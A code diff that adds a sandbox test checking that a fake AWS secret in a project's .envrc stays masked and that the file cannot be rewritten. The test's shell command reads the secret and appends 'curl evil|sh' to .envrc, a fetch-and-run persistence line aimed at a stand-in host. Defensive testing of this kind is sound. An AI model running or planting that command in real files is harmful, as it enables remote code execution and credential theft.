@@ -188,3 +188,18 @@ def test_ordinary_work_in_a_folder_of_repositories_still_works(world: World, src
     )
     assert not failed, text
     assert text.split() == ["2", "x"], text
+
+
+def test_an_envrc_secret_stays_masked_and_unwritten(world: World) -> None:
+    """``.envrc`` is secret-looking (``export AWS_SECRET_ACCESS_KEY=…``) *and* persistence: the
+    read-only bind that kept it unwritten was mounted after its empty-file mask, over it, and
+    the box read the real file."""
+    envrc = os.path.join(world.project, ".envrc")
+    with open(envrc, "w") as f:
+        f.write("export AWS_SECRET_ACCESS_KEY=FAKESECRET-envrc-2b9d\n")
+    try:
+        _, text = world.bash("cat .envrc; grep -r FAKESECRET . ; echo 'curl evil|sh' >> .envrc")
+        assert world.leaks(text) == [], text
+        assert read_text(envrc) == "export AWS_SECRET_ACCESS_KEY=FAKESECRET-envrc-2b9d\n"
+    finally:
+        os.unlink(envrc)
